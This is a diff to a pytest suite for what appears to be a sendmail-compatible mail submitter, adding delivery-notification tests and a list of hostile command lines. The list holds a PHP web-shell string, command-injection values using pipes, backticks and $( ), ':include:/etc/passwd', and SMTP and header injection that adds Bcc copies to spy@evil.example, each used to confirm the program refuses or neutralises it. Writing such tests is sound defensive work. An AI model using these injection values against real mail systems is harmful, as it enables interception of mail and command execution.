@@ -3,13 +3,15 @@ every form in which it comes, and what a hostile one does. Which test covers
 which option stands in tests/COVERAGE.md."""
 import os
 import re
+import shutil
 import subprocess
+import urllib.parse
 
 import pytest
 
 from m365 import Microsoft365
-from support import (ACCOUNT, BUILD, DATAERR, NOPERM, NOUSER, OK, UNDER, USAGE,
-                     Outpost)
+from support import (ACCOUNT, BUILD, DATAERR, NOPERM, NOUSER, OK, SANITIZED,
+                     UNDER, USAGE, Outpost)
 
 SHORT, WHOLE = b"one\r\n", b"one\r\n.\r\ntwo\r\n"
 TEXT = b"To: head@example.org\nSubject: s\n\none\n.\ntwo\n"
@@ -156,6 +158,48 @@ def test_a_header_that_names_nobody_says_what_is_wished(outpost, options,
                    input=header + b"Subject: s\n\nBody\n")
     assert [" ".join(v.split()) for v in message.header("To")] == to
     assert message.violations == []
+
+
+# What notifications are wished (RFC 3461).
+
+def wishes(message):
+    return ({key: message.mail_parameters.get(key)
+             for key in ("RET", "ENVID")}, [p for _, p in message.recipients])
+
+
+@pytest.mark.parametrize("options, ret, envid, notify", [
+    ([], None, None, None),
+    (["-N", "failure,delay", "-Rhdrs", "-Vid"], "HDRS", "id",
+     "FAILURE,DELAY"),
+    (["-NSuccess , FAILURE,delay", "-R", "Full"], "FULL", None,
+     "SUCCESS,FAILURE,DELAY"),
+    (["-Nnever", "-Rfull", "-Rhdrs"], "HDRS", None, "NEVER"),
+    (["-V", "a+b=c ~<d>"], None, "a+2Bb+3Dc+20~<d>", None),
+    (["-V" + "x" * 100], None, "x" * 100, None),
+], ids=words)
+def test_wishes_for_notifications_go_to_the_server(outpost, office, options,
+                                                   ret, envid, notify):
+    """At once, by way of the queue, and not to one that knows none."""
+    expected = {"RET": ret, "ENVID": envid}
+    each = {"NOTIFY": notify} if notify else {}
+    message = send(outpost, *options, WORD, "b@example.net")
+    assert wishes(message) == (expected, [each, each])
+    assert outpost.sendmail("-odq", *options, WORD, input=TEXT).code == OK
+    office.fault("at EHLO2 no-extension DSN")
+    assert outpost.sendmail("-qf").code == OK
+    assert wishes(office.messages[-1]) == \
+        ({"RET": None, "ENVID": None}, [{}])
+    assert outpost.sendmail("-odq", *options, WORD, input=TEXT).code == OK
+    assert outpost.sendmail("-qf").code == OK
+    assert wishes(office.messages[-1]) == (expected, [each])
+
+
+def test_the_server_is_told_for_whom_a_local_recipient_was(outpost):
+    message = send(outpost, "-Nfailure", "a+b=c@localhost", WORD)
+    [(local, parameters), (word, plain)] = message.recipients
+    assert parameters == {"NOTIFY": "FAILURE",
+                          "ORCPT": "rfc822;a+2Bb+3Dc@localhost"}
+    assert plain == {"NOTIFY": "FAILURE"}
 
 
 @pytest.mark.parametrize("options", [
@@ -397,3 +441,156 @@ def test_any_other_name_sends(outpost, office):
     before = len(office.messages)
     assert called(outpost, "ssmtp", WORD, input=TEXT) == (OK, "", "")
     assert len(office.messages) == before + 1
+
+
+# What a hostile caller writes: no file appears, no program runs, nobody else
+# gets the message, and it goes the way that it always goes.
+
+RUBBISH = bytes(range(1, 256))
+LONG = b"x" * 131000            # the kernel takes no longer argument
+
+HOSTILE = [
+    (["-X", "{}/log", "-f", "<?php system($_GET[1]); ?>", WORD], DATAERR),
+    (["-X{}/log", "-OQueueDirectory={}", "-oQ{}", "-D{}/debug", WORD], OK),
+    (["-OStatusFile={}/s", "-oS{}/s", "-oA{}/a", "-oH{}/h", "-oJ{}/f", WORD],
+     OK),
+    (["-J{}/log", "-OSafeFileEnvironment=/", "-OErrorHeader={}/h", WORD], OK),
+    (["-OPostmasterCopy=spy@evil.example", "-oPspy@evil.example",
+      "-OFallbackMXhost=evil.example", "-oVevil.example", WORD], OK),
+    (["-OTLSSrvOptions=V", "-OCACertFile={}/ca", "-OCipherList=NULL",
+      "-ODaemonPortOptions=Port=1", WORD], OK),
+    (["-OProgramMailer=/bin/sh", "-M{touch {}/x}", "-d0-99.127", WORD], OK),
+    (["-C{}/evil.conf", WORD], NOPERM),
+    (["-C", "{}/evil.conf", "-bs"], NOPERM),
+    (["-be", "${run{/usr/bin/touch {}/x}}"], USAGE),
+    (["-bem", "-t"], USAGE),
+    (["--passwordeval=touch {}/x", WORD], USAGE),
+    (["--host=evil.example", "--tls=off", WORD], USAGE),
+    (["--logfile={}/log", WORD], USAGE),
+    (["-f", "|touch {}/x", WORD], DATAERR),
+    (["|touch {}/x"], DATAERR),
+    ([":include:/etc/passwd"], DATAERR),
+    (["-f", "`touch {}/x`@x.example", WORD], DATAERR),
+    (["-F", "`touch {}/x`$(touch {}/y)", WORD], OK),
+    (["-F", "%n%s%x%1000000d", "-L%n%s", "-V", "%n%s", WORD], OK),
+    (["-f", "%n%s%x@x.example", WORD], OK),
+    (["-f", "a@x.example\r\nRCPT TO:<spy@evil.example>", WORD], DATAERR),
+    (["-f", "a@x.example\nBcc: spy@evil.example", WORD], DATAERR),
+    (["-f", "a@x.example> SIZE=1 RET=FULL", WORD], DATAERR),
+    (["-f", "a b@x.example", WORD], DATAERR),
+    (["-f", '"a b"@x.example', WORD], OK),
+    (["-f", '"a\\"b@y.example"@x.example', WORD], OK),
+    (["-f", "a@x.example,b@y.example", WORD], DATAERR),
+    (["-F", "x\r\nBcc: spy@evil.example\r\n\r\nmore", WORD], OK),
+    (["-F", "x\rBcc: spy@evil.example", WORD], OK),
+    (["-F", '<spy@evil.example>, "', WORD], OK),
+    (["-F", "\\", WORD], OK),
+    (["-V", "x SIZE=1\r\nRSET", WORD], USAGE),
+    (["-N", "never\r\nRSET", WORD], USAGE),
+    (["a@b.example\r\nRCPT TO:<spy@evil.example>"], DATAERR),
+    (["a@b.example\n"], DATAERR),
+    (["a@b.example> NOTIFY=NEVER"], DATAERR),
+    (["--", "-t"], USAGE),
+    (["--", "-oQ{}", WORD], USAGE),
+    (["-G", "-f", "spy@evil.example", WORD], OK),
+    *[([option, LONG, WORD], OK) for option in ("-L", "-X", "-D", "-O", "-o",
+                                                "-M", "-p")],
+    *[([option, LONG, WORD], USAGE) for option in ("-V", "-N", "-R", "-h",
+                                                   "-b", "-B", "-e")],
+    (["-F", LONG, WORD], DATAERR),
+    ([LONG + b"@x.example"], DATAERR),
+    ([b"-q" + LONG], USAGE),
+    (["-" + "i" * 131000, WORD], OK),
+    *[([option, RUBBISH, WORD], OK) for option in ("-F", "-L", "-X", "-D",
+                                                   "-O", "-o", "-M", "-p")],
+    *[([option, RUBBISH, WORD], USAGE) for option in ("-V", "-N", "-R", "-h",
+                                                      "-b", "-B", "-e")],
+    (["-f", RUBBISH, WORD], DATAERR),
+    ([RUBBISH], DATAERR),
+    ([b"-" + RUBBISH], USAGE),
+    ([b"-q" + RUBBISH], USAGE),
+    ([b"\xff\xfe@x.example"], DATAERR),
+    (["-F", b"\xff\xc3\xed\xa0\x80\xf4\xbf", WORD], OK),
+    (["-f", b"\xff\xfe@x.example", WORD], OK),
+    ([WORD] * 10000, OK),
+    (["-oi"] * 10000 + [WORD], OK),
+    (["-F", "x" * 1000] * 1000 + [WORD], OK),
+    (["-qIx"] * 33, USAGE),
+]
+
+
+@pytest.fixture
+def bait(outpost):
+    """A folder where anybody may make files, and a configuration that leads
+    elsewhere."""
+    folder = outpost.folder / "bait"
+    folder.mkdir(exist_ok=True)
+    folder.chmod(0o777)
+    (folder / "evil.conf").write_text(outpost.config.read_text().replace(
+        f"host = {outpost.office.host}", "host = evil.example"))
+    return folder
+
+
+def tree(folder):
+    return sorted(str(p) for p in folder.rglob("*"))
+
+
+def fill(arguments, bait):
+    return [os.fsdecode(a) if isinstance(a, bytes)
+            else a.replace("{}", str(bait)) for a in arguments]
+
+
+@pytest.mark.parametrize("arguments, code", HOSTILE, ids=words)
+def test_a_hostile_command_line_does_no_harm(outpost, office, bait, arguments,
+                                             code):
+    before, there = len(office.messages), tree(outpost.folder)
+    result = outpost.sendmail(*fill(arguments, bait), input=TEXT, cwd=bait)
+    assert (result.code, result.out) == (code, ""), result
+    assert tree(outpost.folder) == there or code == DATAERR and \
+        outpost.failed()
+    assert re.fullmatch(r"sendmail: [^\n]+\n(  hint: [^\n]+\n)?" if code
+                        else "", result.err)
+    assert result.err.replace("\n", "").isprintable()
+    messages = office.messages[before:]
+    assert len(messages) == (code == OK)
+    for message in messages:
+        assert message.addresses == [WORD]
+        assert (message.mail_from, message.user) == (ACCOUNT, ACCOUNT)
+        assert message.tls_version == "TLSv1.3"
+        assert message.violations == []
+        assert message.header("Bcc") == []
+        assert message.body in (SHORT, WHOLE)
+        [sender] = message.header("From")
+        assert re.search(rf"(^|<){ACCOUNT}>?$", sender)
+        assert message.raw.split(b"\r\n\r\n")[0].isascii()
+
+
+@pytest.mark.skipif(SANITIZED or UNDER or not shutil.which("strace"),
+                    reason="needs strace, and programs as they are installed")
+def test_no_option_opens_a_file_or_runs_a_program(outpost, office, bait):
+    """All that take a path or a command, in one run, as the kernel sees it:
+    sendmail runs submit and submit runs token, and no more."""
+    trace = outpost.folder / "trace"
+    arguments = [
+        "-X{}/log", "-X", "{}/log", "-D{}/debug", "-OQueueDirectory={}",
+        "-oQ{}", "-oS{}/s", "-OStatusFile={}/s", "-oA{}/a",
+        "-OAliasFile={}/a", "-oH{}/h", "-oJ{}/f", "-J{}/log", "-M{}/m",
+        "-p{}/p", "-L{}/l", "-F`touch {}/x`", "-f", "$(touch)@x.example",
+        "-N", "never", "-V", "|touch", "-d99", "-i", "--", WORD]
+    done = subprocess.run(
+        ["strace", "-f", "-s", "4096", "-o", trace,
+         "-e", "trace=execve,open,openat,creat,connect,mknodat,linkat,rename",
+         BUILD / "sendmail", *fill(arguments, bait)], input=TEXT, cwd=bait,
+        env=outpost.environment(), capture_output=True, timeout=60)
+    assert done.returncode == OK, done
+    calls = trace.read_text()
+    started = re.findall(r'execve\("([^"]*)"', calls)
+    assert {os.path.basename(p) for p in started} <= \
+        {"sendmail", "submit", "token"} and len(started) <= 3
+    opened = re.findall(r'(?:open|openat|creat)\([^"]*"([^"]*)"', calls)
+    assert str(outpost.config) in opened                # it was watched
+    assert [p for p in opened if str(bait) in p] == []
+    peers = set(re.findall(r"htons\((\d+)\)", calls))
+    assert peers <= {str(office.smtp_port),
+                     str(urllib.parse.urlsplit(office.authority).port)}
+    assert tree(bait) == [str(bait / "evil.conf")]
